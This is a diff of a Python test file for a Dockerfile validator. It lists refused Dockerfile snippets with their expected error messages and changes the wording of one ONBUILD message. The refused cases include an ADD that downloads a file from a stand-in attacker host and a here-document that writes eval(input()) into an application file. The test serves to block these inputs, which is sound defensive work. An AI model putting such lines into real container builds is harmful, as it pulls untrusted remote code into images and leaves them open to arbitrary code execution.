@@ -120,7 +120,7 @@ REFUSED = [
     (f"FROM {BASE}\nRUN --mount=type=bind,from=,target=/x cp /x /", 2, "is not pinned"),
     (f"FROM {BASE}\nADD https://evil.example/app.py /", 2, "ADD can download files and unpack archives"),
     (f"FROM {BASE}\nadd app.tar /", 2, "ADD can"),
-    (f"FROM {BASE}\nONBUILD RUN true", 2, "ONBUILD runs its command in another stage"),
+    (f"FROM {BASE}\nONBUILD RUN true", 2, "ONBUILD delays its command until another stage"),
     (f"FROM {BASE}\nCOPY <<EOF /app.py\neval(input())\nEOF", 2, "no check examines a here-document"),
     (f"FROM {BASE}\nRUN <<EOF\npip install flask\nEOF", 2, "a here-document"),
     (f'FROM {BASE}\nSHELL ["python3", "-c"]', 2, "SHELL must be a JSON list that begins with sh, ash, bash or dash"),
